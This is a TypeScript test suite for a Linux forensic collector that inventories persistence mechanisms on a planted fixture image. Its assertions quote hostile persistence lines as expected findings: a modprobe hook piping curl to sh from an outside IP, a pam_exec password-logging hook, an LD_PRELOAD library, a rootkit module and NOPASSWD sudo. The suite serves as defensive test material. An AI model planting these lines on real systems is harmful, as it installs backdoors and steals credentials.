import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, rmdirSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import type { Collector } from '../../src/collectors/collector.js';
import { binfmtCollector } from '../../src/collectors/binfmt.js';
import { bpfCollector } from '../../src/collectors/bpf.js';
import { kernelModulesCollector } from '../../src/collectors/kernel-modules.js';
import { pamCollector } from '../../src/collectors/pam.js';
import { preloadCollector } from '../../src/collectors/preload.js';
import { shellStartupCollector } from '../../src/collectors/shell-startup.js';
import { sshKeysCollector } from '../../src/collectors/ssh-keys.js';
import { sudoersCollector } from '../../src/collectors/sudoers.js';
import { runCollector } from '../collector-harness.js';
import { ECDSA_FP, ED25519_FP, RSA_FP, plantPersistenceB } from '../fixtures/persistence-b/plant.js';
import { PROJECT, bundleForOtherUser, tempDir } from '../helpers.js';

type Row = Record<string, unknown> & { kind: string; path: string };

const ALL: Collector[] = [shellStartupCollector, preloadCollector, sshKeysCollector, kernelModulesCollector, pamCollector, sudoersCollector, binfmtCollector, bpfCollector];

async function run(t: { after(fn: () => void): void }, c: Collector, opts: { root?: string; proc?: string; dir?: string } = {}) {
  const dir = opts.dir ?? tempDir(t);
  const out = path.join(dir, `out-${c.name}-${Math.random().toString(36).slice(2)}`);
  const r = await runCollector<Row>(c, out, { root: opts.root, proc: opts.proc });
  const status = r.manifest.collectors.find((x) => x.name === c.name);
  assert.equal(status?.status, 'ok', `${c.name}: ${JSON.stringify(r.manifest.errors)}`);
  const errors = r.manifest.errors.filter((e) => e.collector === c.name);
  assert.deepEqual(errors.filter((e) => e.code === 'EROW' || e.code === 'ECOLLECT'), [], `${c.name}: every row matches its declaration`);
  const kept = (p: string) => r.manifest.artifacts.some((a) => a.source === p);
  return { ...r, errors, kept, ms: Date.parse(status!.ended) - Date.parse(status!.started) };
}

function fixtureRoot(t: { after(fn: () => void): void }) {
  const dir = tempDir(t);
  return { dir, ...plantPersistenceB(dir) };
}

test('shell-startup on an image: system and user files, hostile lines, a FIFO, a symlinked home, a name that is not UTF-8', async (t) => {
  const { root, dir } = fixtureRoot(t);
  const { rows, errors, kept } = await run(t, shellStartupCollector, { root, dir });
  const files = rows.filter((r) => r.kind === 'file');
  const paths = files.map((r) => r.path);
  for (const p of ['/etc/profile', '/etc/profile.d/zz-update.sh', '/etc/environment', '/root/.bashrc', '/root/.profile', '/home/alice/.bash_logout', '/home/alice/.config/fish/config.fish', '/home/bob/.bashrc']) {
    assert.ok(paths.includes(p), p);
    assert.ok(kept(p), `raw copy of ${p}`);
  }
  const rootrc = files.find((r) => r.path === '/root/.bashrc')!;
  assert.deepEqual(rootrc.users, ['root']);
  assert.equal(rootrc.scope, 'user');
  assert.match(String(rootrc.sha256), /^[0-9a-f]{64}$/);
  const bob = files.find((r) => r.path === '/home/bob/.bashrc')!;
  assert.equal(bob.resolvedPath, '/srv/bob/.bashrc', 'a home that is a symlink shows where the file really is');
  const line = (p: string, n: number) => rows.find((r) => r.kind === 'line' && r.path === p && r.lineNumber === n);
  assert.equal(line('/etc/profile.d/zz-update.sh', 1)?.lineKind, 'command');
  assert.equal(line('/root/.bashrc', 17)?.name, 'PROMPT_COMMAND');
  assert.equal(line('/root/.bashrc', 24)?.raw, 'echo visible\r# \u001b[2K');
  assert.equal(line('/etc/environment', 3)?.name, 'LD_PRELOAD');
  assert.equal(line('/etc/environment', 3)?.raw, 'LD_PRELOAD=/usr/lib/libsneaky.so\r');
  assert.equal(line('/home/bob/.bashrc', 1)?.lineKind, 'alias');
  assert.equal(line('/home/alice/.config/fish/config.fish', 1)?.name, 'PATH');
  // the FIFO is recorded, never opened
  assert.equal(files.find((r) => r.path === '/etc/profile.d/fifo.sh')?.fileType, 'fifo');
  assert.ok(errors.some((e) => e.path === '/etc/profile.d/fifo.sh' && e.code === 'ENOTREG'));
  // the invalid UTF-8 name is read through its raw bytes
  const odd = files.find((r) => r.pathBase64 !== null)!;
  assert.equal(odd.path, '/etc/profile.d/%FF%FE.sh');
  assert.equal(Buffer.from(String(odd.pathBase64), 'base64').toString('latin1'), '/etc/profile.d/\xff\xfe.sh');
  assert.equal(line('/etc/profile.d/%FF%FE.sh', 1)?.raw, 'nohup /dev/shm/.k &');
  // a symlink loop is recorded and the rest goes on
  assert.equal(files.find((r) => r.path === '/home/alice/.zshrc')?.fileType, 'symlink');
  assert.ok(errors.some((e) => e.path === '/home/alice/.zshrc' && e.code === 'ELOOP'), JSON.stringify(errors));
  // the missing home (ghost) and /nonexistent give nothing and no error
  assert.ok(!paths.some((p) => p.startsWith('/home/ghost') || p.startsWith('/nonexistent')));
  assert.ok(!errors.some((e) => String(e.path).startsWith('/home/ghost')));
});

test('preload on an image: preloaded libraries (present and gone), include chains, a world-writable library directory, LD_PRELOAD in /etc/environment', async (t) => {
  const { root, dir } = fixtureRoot(t);
  const { rows, kept } = await run(t, preloadCollector, { root, dir });
  const pre = rows.filter((r) => r.kind === 'preload');
  assert.deepEqual(
    pre.map((r) => [r.source, r.value, r.exists]),
    [
      ['/etc/ld.so.preload', '/usr/lib/x86_64-linux-gnu/libhide.so', true],
      ['/etc/ld.so.preload', '/tmp/.gone.so', false],
      ['/etc/ld.so.preload', 'libbare.so', null],
      ['/etc/environment', '/usr/lib/libsneaky.so', false],
    ],
  );
  assert.match(String(pre[0]!.sha256), /^[0-9a-f]{64}$/);
  assert.ok(kept('/usr/lib/x86_64-linux-gnu/libhide.so'), 'the preloaded library itself is copied');
  assert.ok(kept('/etc/ld.so.preload'));
  const dirs = rows.filter((r) => r.kind === 'conf' && r.directive === 'directory');
  assert.deepEqual(
    dirs.map((r) => [r.source, r.value, r.exists]),
    [
      ['/etc/ld.so.conf.d/libc.conf', '/usr/local/lib', false],
      ['/etc/ld.so.conf.d/zz-evil.conf', '/tmp/libs', true],
      ['/etc/ld.so.conf.d/nested/deep.conf', '/opt/deep/lib', false],
    ],
  );
  assert.equal(dirs[1]!.mode, '1777');
  const env = rows.find((r) => r.kind === 'environment');
  assert.deepEqual([env?.variable, env?.value, env?.lineNumber], ['LD_PRELOAD', '/usr/lib/libsneaky.so', 3]);
});

test('ssh-keys on an image: Include and Match, forced commands, authorized_keys2, a symlink into /tmp, a FIFO, the AuthorizedKeysCommand', async (t) => {
  const { root, dir } = fixtureRoot(t);
  const { rows, errors } = await run(t, sshKeysCollector, { root, dir });
  const config = rows.filter((r) => r.kind === 'config' && r.keyword === 'AuthorizedKeysFile');
  assert.deepEqual(
    config.map((r) => [r.path, r.match, r.effective]),
    [
      ['/etc/ssh/sshd_config.d/10-ldap.conf', null, true],
      ['/etc/ssh/sshd_config', null, false],
      ['/etc/ssh/sshd_config', 'User backup', false],
      ['/etc/ssh/match.d/extra.conf', 'Group admins Address 10.0.0.0/8', false],
    ],
  );
  const keys = rows.filter((r) => r.kind === 'key');
  const at = (p: string) => keys.filter((k) => k.path === p);
  assert.deepEqual(
    at('/root/.ssh/authorized_keys').map((k) => k.fingerprint),
    [ED25519_FP, RSA_FP, ECDSA_FP],
  );
  const forced = at('/root/.ssh/authorized_keys')[1]!;
  assert.equal(forced.forcedCommand, '/usr/local/bin/backup.sh --tag="a,b c"');
  assert.equal(forced.from, '10.0.0.1,192.168.1.0/24');
  assert.deepEqual(forced.users, ['root']);
  assert.equal(forced.mode, '0600');
  assert.equal(rows.filter((r) => r.kind === 'bad-line' && r.path === '/root/.ssh/authorized_keys').length, 4);

  const k2 = at('/home/alice/.ssh/authorized_keys2');
  assert.equal(k2[0]?.fingerprint, ED25519_FP);
  assert.deepEqual(k2[0]?.via, ['.ssh/authorized_keys2 (not in AuthorizedKeysFile; checked anyway)']);
  assert.equal(k2[0]?.readBySshd, false, 'the Include sets AuthorizedKeysFile first, without authorized_keys2');
  assert.equal(forced.readBySshd, true);
  assert.equal(at('/etc/ssh/authorized/alice')[0]?.fingerprint, ECDSA_FP, 'the Include-set AuthorizedKeysFile %u path');

  const bob = at('/home/bob/.ssh/authorized_keys')[0]!;
  assert.equal(bob.fileType, 'symlink');
  assert.equal(bob.symlinkTarget, '/tmp/keys');
  assert.equal(bob.resolvedPath, '/tmp/keys');
  assert.equal(bob.comment, 'planted');

  const backup = at('/var/lib/backup/keys/backup')[0]!;
  assert.equal(backup.match, 'User backup', 'a Match-only path carries its condition');
  assert.equal(backup.readBySshd, true);
  assert.equal(backup.from, '10.1.1.1,10.1.1.2');
  assert.match(String(backup.forcedCommand), /^rsync --server/);

  const fifo = rows.find((r) => r.kind === 'file' && r.path === '/home/alice/.ssh/authorized_keys');
  assert.equal(fifo?.fileType, 'fifo');
  assert.ok(errors.some((e) => e.path === '/home/alice/.ssh/authorized_keys' && e.code === 'ENOTREG'));

  const cmd = rows.find((r) => r.kind === 'file' && (r.via as string[]).includes('AuthorizedKeysCommand'));
  assert.equal(cmd?.path, '/usr/local/sbin/keys-from-ldap');
  assert.deepEqual(cmd?.users, ['nobody']);
  assert.match(String(cmd?.sha256), /^[0-9a-f]{64}$/);
  assert.ok(errors.some((e) => e.path === '/etc/ssh/match.d/extra.conf' && e.code === 'EPARSE'));
});

test('kernel-modules on an image with a saved /proc: taint letters, a loaded module with no file, a hidden module, an install hook', async (t) => {
  const { root, proc, dir } = fixtureRoot(t);
  const { rows, errors, kept } = await run(t, kernelModulesCollector, { root, proc, dir });
  const loaded = rows.filter((r) => r.kind === 'loaded');
  assert.equal(loaded.length, 8);
  const dia = loaded.find((r) => r.name === 'diamorphine')!;
  assert.deepEqual([dia.taint, dia.onDisk, dia.inSysfs, dia.release], ['OE', false, false, '6.1.0-28-amd64']);
  const xfs = loaded.find((r) => r.name === 'xfs')!;
  assert.deepEqual([xfs.onDisk, xfs.path, xfs.inSysfs, xfs.srcversion], [true, '/lib/modules/6.1.0-28-amd64/kernel/fs/xfs/xfs.ko', true, 'ABCDEF0123456789ABCDEF0']);
  assert.match(String(xfs.sha256), /^[0-9a-f]{64}$/);
  assert.equal(loaded.find((r) => r.name === 'snd_hda_codec_hdmi')?.onDisk, true, 'dashes in file names match underscores in module names');
  const sys = rows.filter((r) => r.kind === 'sysfs');
  assert.deepEqual(
    sys.map((r) => [r.name, r.state]),
    [
      ['hidden_mod', 'live'],
      ['printk', null],
    ],
  );
  assert.deepEqual(rows.filter((r) => r.kind === 'tainted').map((r) => [r.value, r.taint]), [['12288', 'OE']]);
  const install = rows.find((r) => r.kind === 'config' && r.directive === 'install');
  assert.deepEqual([install?.name, install?.source], ['usb_storage', '/etc/modprobe.d/usb.conf']);
  assert.match(String(install?.args), /curl -s http:\/\/203\.0\.113\.9\/x \| sh/);
  assert.deepEqual(
    rows.filter((r) => r.kind === 'config' && r.directive === 'load').map((r) => [r.source, r.name]),
    [
      ['/etc/modules', 'loop'],
      ['/etc/modules-load.d/persist.conf', 'diamorphine'],
    ],
  );
  assert.ok(errors.some((e) => e.path === '/proc/modules' && e.code === 'EPARSE'));
  assert.ok(kept('/proc/modules') && kept('/etc/modprobe.d/usb.conf'));
});

test('kernel-modules on an image without /proc: configuration only', async (t) => {
  const { root, dir } = fixtureRoot(t);
  const { rows } = await run(t, kernelModulesCollector, { root, dir });
  assert.equal(rows.filter((r) => r.kind === 'loaded' || r.kind === 'tainted').length, 0);
  assert.ok(rows.some((r) => r.kind === 'config' && r.directive === 'install'));
});

test('pam on an image: pam_succeed_if uid >= 0, pam_exec with its script, a module outside the module directories, @include', async (t) => {
  const { root, dir } = fixtureRoot(t);
  const { rows, kept } = await run(t, pamCollector, { root, dir });
  const sshd = rows.filter((r) => r.path === '/etc/pam.d/sshd' && r.kind === 'rule');
  assert.deepEqual(
    sshd.map((r) => [r.lineNumber, r.type, r.control, r.module, r.argsRaw]),
    [
      [2, 'auth', 'sufficient', 'pam_succeed_if.so', 'uid >= 0'],
      [3, 'auth', 'optional', 'pam_exec.so', 'quiet expose_authtok /usr/local/bin/.pwlog.sh'],
      [5, 'account', 'required', '/tmp/.p/pam_evil.so', ''],
      [6, 'session', 'optional', 'pam_systemd.so', ''],
    ],
  );
  assert.equal(sshd[0]!.modulePath, '/lib/x86_64-linux-gnu/security/pam_succeed_if.so');
  assert.match(String(sshd[0]!.moduleSha256), /^[0-9a-f]{64}$/);
  assert.deepEqual(sshd[1]!.execCommand, ['/usr/local/bin/.pwlog.sh']);
  assert.equal(sshd[2]!.modulePath, null, 'a module that does not exist');
  assert.equal(sshd[3]!.quietIfMissing, true);
  const script = rows.find((r) => r.kind === 'file' && r.path === '/usr/local/bin/.pwlog.sh');
  assert.equal(script?.includedFrom, '/etc/pam.d/sshd');
  assert.ok(kept('/usr/local/bin/.pwlog.sh'), 'the pam_exec program is copied');
  assert.deepEqual(rows.filter((r) => r.kind === 'include').map((r) => r.module), ['common-auth']);
  assert.ok(rows.some((r) => r.path === '/etc/pam.d/common-auth' && r.kind === 'rule' && r.control === '[success=1 default=ignore]'));
});

test('sudoers on an image: NOPASSWD ALL in a world-writable sudoers.d file, a file #includedir skips, Defaults and aliases', async (t) => {
  const { root, dir } = fixtureRoot(t);
  const { rows } = await run(t, sudoersCollector, { root, dir });
  const files = rows.filter((r) => r.kind === 'file');
  assert.deepEqual(
    files.map((r) => [r.path, r.readBySudo, r.includedBy, r.mode, r.owner]),
    [
      ['/etc/sudoers', true, null, '0440', 'root'],
      ['/etc/sudoers.d/README', true, '/etc/sudoers', '0440', 'root'],
      ['/etc/sudoers.d/bob', true, '/etc/sudoers', '0666', 'bob'],
      ['/etc/sudoers.d/ignored.conf', false, '/etc/sudoers', '0440', 'root'],
    ],
  );
  const bob = rows.find((r) => r.kind === 'spec' && r.path === '/etc/sudoers.d/bob')!;
  assert.deepEqual([bob.users, bob.hosts, bob.runAsUsers, bob.tags, bob.commands, bob.raw], [['bob'], ['ALL'], ['ALL'], ['NOPASSWD'], ['ALL'], 'bob ALL=(ALL) NOPASSWD: ALL']);
  assert.ok(rows.some((r) => r.kind === 'spec' && r.path === '/etc/sudoers.d/ignored.conf'), 'rules in a skipped file are still listed');
  assert.ok(rows.some((r) => r.kind === 'defaults' && (r.settings as string[]).includes('env_reset')));
  assert.ok(rows.some((r) => r.kind === 'include' && r.target === '/etc/sudoers.d'));
});

test('binfmt and bpf on an image: handlers from a saved /proc, binfmt.d, pinned objects', async (t) => {
  const { root, proc, dir } = fixtureRoot(t);
  const b = await run(t, binfmtCollector, { root, proc, dir });
  assert.deepEqual(
    b.rows.filter((r) => r.kind === 'handler').map((r) => [r.name, r.enabled, r.interpreter, r.flags, r.matchType, r.magic]),
    [
      ['jpg', false, '/tmp/.x/run', '', 'extension', '.jpg'],
      ['qemu-aarch64', true, '/usr/bin/qemu-aarch64-static', 'OCF', 'magic', '7f454c460201010000000000000000000200b700'],
    ],
  );
  assert.equal(b.rows.find((r) => r.kind === 'status')?.enabled, true);
  const reg = b.rows.find((r) => r.kind === 'registration');
  assert.deepEqual([reg?.name, reg?.interpreter, reg?.flags, reg?.fileType], ['jpg', '/tmp/.x/run', 'C', 'missing']);
  const noProc = await run(t, binfmtCollector, { root, dir });
  assert.equal(noProc.rows.filter((r) => r.kind === 'handler').length, 0);
  assert.equal(noProc.rows.filter((r) => r.kind === 'registration').length, 1);

  const bpf = await run(t, bpfCollector, { root, dir });
  assert.deepEqual(
    bpf.rows.map((r) => [r.kind, r.path, r.fileType]),
    [
      ['pinned', '/sys/fs/bpf/tc', 'directory'],
      ['pinned', '/sys/fs/bpf/tc/globals', 'directory'],
      ['pinned', '/sys/fs/bpf/tc/globals/evil_map', 'regular'],
    ],
  );
  assert.equal(bpf.manifest.tools.length, 0, 'no external program on a dead box');
});

test('unreadable files are recorded and the collectors go on (run as nobody)', async (t) => {
  if (process.getuid?.() !== 0 || !existsSync('/usr/bin/setpriv')) return t.skip('needs root and setpriv to drop to nobody');
  const { root, dir } = fixtureRoot(t);
  chmodSync(dir, 0o755);
  const outs = path.join(dir, 'outs');
  mkdirSync(outs, { mode: 0o777 });
  chmodSync(outs, 0o777);
  const script = bundleForOtherUser(path.join(PROJECT, 'test/fixtures/persistence-b/run-collector.ts'), dir);
  const res = spawnSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, script, root, outs], {
    cwd: PROJECT,
    env: { ...process.env, HOME: '/nonexistent' },
    encoding: 'utf8',
    timeout: 60_000,
  });
  assert.equal(res.status, 0, res.stderr);
  const result = JSON.parse(res.stdout) as Record<string, { status: string; errors: { path: string; code: string }[]; rows: number }>;
  for (const [name, r] of Object.entries(result)) assert.equal(r.status, 'ok', name);
  assert.ok(result['ssh-keys']!.errors.some((e) => e.path === '/root/.ssh/authorized_keys' && e.code === 'EACCES'));
  assert.ok(result.sudoers!.errors.some((e) => e.path === '/etc/sudoers' && e.code === 'EACCES'));
  assert.ok(result['shell-startup']!.rows > 0);
});

test('garbage everywhere: random bytes in every file the collectors parse give rows that match their declarations', async (t) => {
  const dir = tempDir(t);
  const { root, proc } = plantPersistenceB(dir);
  let seed = 12345;
  const rand = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
  const junk = () => Buffer.from(Array.from({ length: 1 + Math.floor(rand() * 600) }, () => (rand() < 0.3 ? 0x0a : rand() < 0.2 ? 0x20 : Math.floor(rand() * 256))));
  const targets = [
    'etc/passwd', 'etc/profile', 'etc/environment', 'root/.bashrc', 'etc/ld.so.preload', 'etc/ld.so.conf', 'etc/ssh/sshd_config',
    'root/.ssh/authorized_keys', 'etc/pam.d/sshd', 'etc/sudoers', 'etc/sudoers.d/bob', 'etc/modprobe.d/usb.conf', 'etc/modules', 'etc/binfmt.d/jpg.conf',
  ];
  for (const f of targets) writeFileSync(path.join(root, f), junk());
  for (const f of ['modules', 'sys/kernel/tainted', 'sys/fs/binfmt_misc/jpg']) writeFileSync(path.join(proc, f), junk());
  for (const c of ALL) await run(t, c, { root, proc, dir });
});

test('live: every collector runs on this machine, quickly, and gives what the machine has', async (t) => {
  const dir = tempDir(t);
  const timings: string[] = [];
  for (const c of ALL) {
    const r = await run(t, c, { dir });
    timings.push(`${c.name} ${r.ms} ms, ${r.rows.length} rows`);
    assert.ok(r.ms < 10_000, `${c.name} took ${r.ms} ms`);
    const kinds = new Set(r.rows.map((x) => x.kind));
    switch (c.name) {
      case 'shell-startup':
        assert.ok(r.rows.some((x) => x.path === '/etc/profile' || x.path === '/root/.bashrc'));
        break;
      case 'preload':
        if (existsSync('/etc/ld.so.conf')) assert.ok(kinds.has('file'));
        break;
      case 'ssh-keys':
        assert.ok(kinds.has('config'), 'at least the AuthorizedKeysFile in force (or the default)');
        break;
      case 'kernel-modules':
        assert.ok(kinds.has('tainted'));
        if (existsSync('/proc/modules')) assert.ok(kinds.has('loaded'));
        break;
      case 'pam':
        if (existsSync('/etc/pam.d')) assert.ok(kinds.has('rule'));
        break;
      case 'sudoers':
        if (existsSync('/etc/sudoers')) assert.ok(kinds.has('file'));
        break;
      case 'binfmt':
        if (existsSync('/usr/lib/binfmt.d') && readdirSync('/usr/lib/binfmt.d').length > 0) assert.ok(kinds.has('registration'));
        if (existsSync('/proc/sys/fs/binfmt_misc/status')) assert.ok(kinds.has('status'));
        break;
    }
  }
  t.diagnostic(timings.join('; '));
});

test('live bpf: a map this test pins in its own bpffs is listed through bpftool', async (t) => {
  const bpftool = ['/usr/sbin/bpftool', '/usr/bin/bpftool', '/sbin/bpftool'].find((p) => existsSync(p));
  if (!bpftool || process.getuid?.() !== 0) return t.skip('needs root and bpftool');
  const fs = mkdtempSync(path.join(os.tmpdir(), 'goldhour-bpffs-'));
  try {
    execFileSync('mount', ['-t', 'bpf', 'bpf', fs]);
  } catch {
    rmdirSync(fs);
    return t.skip('cannot mount a bpffs here');
  }
  // one hook, in order: unpin (frees the map), unmount, remove the mount point
  let pinned: string | null = null;
  t.after(() => {
    if (pinned) rmSync(pinned, { force: true });
    spawnSync('umount', [fs]);
    rmdirSync(fs);
  });
  const dir = tempDir(t);
  const name = `gh_test_${process.pid % 100000}`;
  const pin = path.join(fs, name);
  try {
    execFileSync(bpftool, ['map', 'create', pin, 'type', 'hash', 'key', '4', 'value', '4', 'entries', '1', 'name', name]);
  } catch {
    return t.skip('the kernel refused to create a map');
  }
  pinned = pin;
  const { rows, manifest, bundle } = await run(t, bpfCollector, { dir });
  const map = rows.find((r) => r.kind === 'map' && r.name === name);
  assert.ok(map, JSON.stringify(rows.slice(0, 5)));
  assert.equal(map.origin, 'bpftool');
  assert.equal(map.bpfType, 'hash');
  assert.ok((map.pinnedPaths as string[]).includes(pin));
  const tool = manifest.tools.find((x) => x.path.endsWith('/bpftool'));
  assert.match(String(tool?.sha256), /^[0-9a-f]{64}$/);
  assert.ok(readFileSync(path.join(bundle, 'commands/bpf/bpftool_-j_-f_map_show.stdout'), 'utf8').includes(name));
});
